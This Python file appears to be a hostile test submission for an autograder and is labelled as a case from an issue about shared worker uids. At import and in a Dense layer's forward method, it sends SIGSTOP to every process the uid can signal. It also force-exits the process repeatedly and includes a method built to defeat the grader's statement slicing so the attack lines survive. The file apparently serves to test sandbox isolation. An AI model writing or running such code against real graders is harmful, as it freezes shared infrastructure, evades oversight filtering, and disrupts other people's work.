# Issue 9, class 3: stop every process this uid may signal (kill(-1, SIGSTOP)) whenever the
# layer runs, after restarting the worker many times (worker uids used to be base + ident %
# 100, so a restarted worker could share the kept reference twin's uid; a stopped twin then
# blocked every later student's timing on a pipe write with no deadline).
import os
import signal


def _stop_everyone():
    try:
        os.kill(-1, signal.SIGSTOP)
    except OSError:
        pass


_stopped = _stop_everyone()
_restart0 = os._exit(3)
_restart1 = os._exit(3)
_restart2 = os._exit(3)
_restart3 = os._exit(3)
_restart4 = os._exit(3)
_restart5 = os._exit(3)
_restart6 = os._exit(3)
_restart7 = os._exit(3)
_restart8 = os._exit(3)
_restart9 = os._exit(3)
_restart10 = os._exit(3)
_restart11 = os._exit(3)
_restart12 = os._exit(3)
_restart13 = os._exit(3)
_restart14 = os._exit(3)
_restart15 = os._exit(3)
_restart16 = os._exit(3)
_restart17 = os._exit(3)
_restart18 = os._exit(3)
_restart19 = os._exit(3)


class Dense(Dense):
    def forward(self, input):
        _stop_everyone()
        return super().forward(input)

    def _attack(self):  # reads every name above, so statement slicing keeps (and runs) them
        return (_stopped, _restart0, _restart1, _restart2, _restart3, _restart4, _restart5, _restart6, _restart7, _restart8, _restart9, _restart10, _restart11, _restart12, _restart13, _restart14, _restart15, _restart16, _restart17, _restart18, _restart19)
